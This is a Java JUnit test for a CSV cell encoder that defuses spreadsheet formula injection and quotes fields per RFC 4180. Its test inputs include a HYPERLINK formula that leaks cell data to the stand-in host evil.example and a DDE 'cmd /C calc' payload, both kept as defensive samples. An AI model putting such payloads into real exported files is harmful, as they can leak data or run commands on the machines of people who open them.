package org.comity.core.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class CsvCellTest {

    static Stream<Arguments> cells() {
        return Stream.of(
                Arguments.of(
                        "=HYPERLINK(\"http://evil.example/?\"&A1)",
                        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\""),
                Arguments.of("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
                Arguments.of("-2+3", "'-2+3"),
                Arguments.of("@SUM(A1:A9)", "'@SUM(A1:A9)"),
                Arguments.of("\t=1+1", "'\t=1+1"),
                Arguments.of("\r=1+1", "\"'\r=1+1\""),
                Arguments.of("plain text", "plain text"),
                Arguments.of("a,b", "\"a,b\""),
                Arguments.of("say \"hi\"", "\"say \"\"hi\"\"\""),
                Arguments.of("line\nbreak", "\"line\nbreak\""),
                Arguments.of("审查 =1", "审查 =1"),
                Arguments.of("", ""),
                Arguments.of(null, ""));
    }

    @ParameterizedTest
    @MethodSource("cells")
    void neutralisesFormulasAndQuotesPerRfc4180(String value, String expected) {
        assertThat(CsvCell.of(value)).isEqualTo(expected);
    }
}
